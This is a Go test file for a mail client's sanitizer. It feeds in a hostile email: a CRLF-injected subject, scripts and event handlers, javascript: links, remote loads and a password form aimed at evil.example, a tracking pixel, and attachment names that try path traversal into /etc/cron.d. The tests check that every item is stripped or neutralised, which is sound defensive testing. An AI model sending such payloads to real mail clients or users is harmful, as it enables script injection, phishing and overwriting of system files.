package mail_test

import (
	"encoding/base64"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"backlot/internal/fault"
	"backlot/internal/mail"
)

// dot is a GIF of one pixel.
const dot = "R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs="

// attack is a mail that tries everything that mails have tried.
var attack = strings.ReplaceAll(`From: "Kim" <kim@creator.example>
To: alice@agency.example
Subject: =?utf-8?q?Draft=0D=0ABcc:_all@x.example?=
Message-ID: <attack@creator.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="m"

--m
Content-Type: multipart/related; boundary="r"

--r
Content-Type: text/html; charset=utf-8

<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/base/">
<style>@import url(https://evil.example/import.css); @font-face{font-family:x;src:url(https://evil.example/font.woff)}
p{background:url(https://evil.example/background.png);position:fixed}</style>
<link rel="stylesheet" href="https://evil.example/sheet.css"><script src="https://evil.example/script.js">alert(1)</script></head>
<body onload="alert(2)"><p style="background:url(https://evil.example/inline.png)" onclick="alert(3)">Readable words</p>
<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<svg><script>alert(4)</script><image href="https://evil.example/svg.png"/></svg><math><mi xlink:href="javascript:alert(5)">m</mi></math>
<a href="javascript:alert(6)">one</a><a href="data:text/html,<script>alert(7)</script>">two</a><a href="https://creator.example/draft">Draft</a>
<img src="cid:dot@creator"><img src="cid:script@creator"><img src="https://evil.example/picture.jpg" width="300" height="200">
<img src="https://evil.example/pixel.gif?who=alice" width="1" height="1"><video src="https://evil.example/video.mp4" autoplay></video>
</body></html>
--r
Content-Type: image/gif
Content-ID: <dot@creator>
Content-Transfer-Encoding: base64

`+dot+`
--r
Content-Type: image/svg+xml
Content-ID: <script@creator>

<svg xmlns="http://www.w3.org/2000/svg"><script>alert(8)</script></svg>
--r--
--m
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="../../../etc/cron.d/evil"

attached
--m
Content-Type: text/html; name="page.html"
Content-Disposition: attachment; filename*=utf-8''a%00b%2F..%5C..%5Cpage.html

<script>alert(9)</script><p>Page words</p>
--m
Content-Type: image/gif
Content-Disposition: attachment; filename="photo.gif"
Content-Transfer-Encoding: base64

`+dot+`
--m--
`, "\n", "\r\n")

// attacked opens the mail.
func attacked(t *testing.T) (*desk, mail.Mail) {
	t.Helper()
	d := newDesk(t)
	d.put("INBOX", attack)
	d.sync()
	return d, d.open("inbox", 0).Messages[0]
}

func TestAHostileMailIsReadSafely(t *testing.T) {
	d, m := attacked(t)
	if strings.ContainsAny(m.Subject, "\r\n") || len(m.Files) != 3 {
		t.Errorf("%q, %+v", m.Subject, m.Files)
	}
	held, err := d.Document(ctx, m.ID, false)
	if err != nil {
		t.Fatal(err)
	}
	shown, err := d.Document(ctx, m.ID, true)
	if err != nil {
		t.Fatal(err)
	}
	for _, doc := range []mail.Document{held, shown} {
		lower := strings.ToLower(doc.HTML)
		for _, bad := range []string{"<script", "alert(", "onload", "onclick", "javascript:", "<form", "<input", "<iframe", "<object", "<embed", "<svg", "<link", "@import", "@font-face", "http-equiv=\"refresh", "<base href", "<video", "text/html,", "svg+xml"} {
			if strings.Contains(lower, bad) {
				t.Errorf("%s is still there: %s", bad, doc.HTML)
			}
		}
		if !strings.Contains(doc.HTML, "Readable words") || !strings.Contains(doc.HTML, "data:image/gif;base64,"+dot) || !strings.Contains(doc.HTML, "https://creator.example/draft") {
			t.Errorf("what is good is lost: %s", doc.HTML)
		}
		if strings.Contains(doc.HTML, "pixel.gif") || doc.Trackers == 0 {
			t.Errorf("%d trackers: %s", doc.Trackers, doc.HTML)
		}
	}
	if strings.Contains(held.HTML, "evil.example") || held.RemotePictures == 0 {
		t.Errorf("without asking, %d pictures: %s", held.RemotePictures, held.HTML)
	}
	if !strings.Contains(shown.HTML, "https://evil.example/picture.jpg") {
		t.Errorf("asked for: %s", shown.HTML)
	}
}

func TestAttachmentsOfAHostileMail(t *testing.T) {
	d, m := attacked(t)
	chosen, outside := t.TempDir(), t.TempDir()
	for _, f := range m.Files {
		name, err := d.FileName(ctx, m.ID, f.Place)
		if err != nil || name != filepath.Base(name) || strings.ContainsAny(name, "/\\\x00") || strings.Contains(name, "..") || name != f.Name {
			t.Errorf("%q %v", name, err)
		}
		if err := d.SaveFile(ctx, m.ID, f.Place, filepath.Join(chosen, name)); err != nil {
			t.Error(err)
		}
	}
	saved, err := os.ReadDir(chosen)
	if err != nil || len(saved) != 3 {
		t.Errorf("saved %v %v", saved, err)
	}
	content, err := os.ReadFile(filepath.Join(chosen, m.Files[0].Name))
	if err != nil || strings.TrimSpace(string(content)) != "attached" {
		t.Errorf("%q %v", content, err)
	}
	if left, err := os.ReadDir(outside); err != nil || len(left) != 0 {
		t.Errorf("%v %v", left, err)
	}
	for kind, place := range map[string]int{"none": 0, "text": 1, "picture": 2} {
		preview, err := d.Preview(ctx, m.ID, m.Files[place].Place)
		if err != nil || preview.Kind != kind {
			t.Fatalf("%+v %v", preview, err)
		}
		if kind == "text" && (!strings.Contains(preview.Text, "Page words") || strings.Contains(preview.Text, "<script")) {
			t.Errorf("%q", preview.Text)
		}
		if raw, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(preview.URL, "data:image/gif;base64,")); kind == "picture" && (err != nil || len(raw) == 0) {
			t.Errorf("%q %v", preview.URL, err)
		}
	}
	for _, place := range []int{-1, 99} {
		if err := d.SaveFile(ctx, m.ID, place, filepath.Join(chosen, "x")); !fault.Is(err, fault.NotFound) {
			t.Error(err)
		}
		if _, err := d.Preview(ctx, m.ID, place); !fault.Is(err, fault.NotFound) {
			t.Error(err)
		}
	}
	if err := d.SaveFile(ctx, "77", 0, filepath.Join(chosen, "x")); !fault.Is(err, fault.NotFound) {
		t.Error(err)
	}
}

func TestSavingWhereNothingCanBeWritten(t *testing.T) {
	d, m := attacked(t)
	place := m.Files[0].Place
	folder := t.TempDir()
	old := filepath.Join(folder, "old")
	if err := os.WriteFile(old, []byte("old"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(folder, "taken"), 0o700); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{filepath.Join(folder, "missing", "x"), filepath.Join(folder, "taken"), filepath.Join(old, "x")} {
		err := d.SaveFile(ctx, m.ID, place, path)
		if !fault.Is(err, fault.Unavailable) {
			t.Errorf("%s: %v", path, err)
		}
	}
	if err := d.SaveFile(ctx, m.ID, place, old); err != nil { // a person chose to replace it
		t.Error(err)
	}
	left, err := os.ReadDir(folder)
	if err != nil || len(left) != 2 {
		t.Errorf("left behind: %v %v", left, err)
	}
}
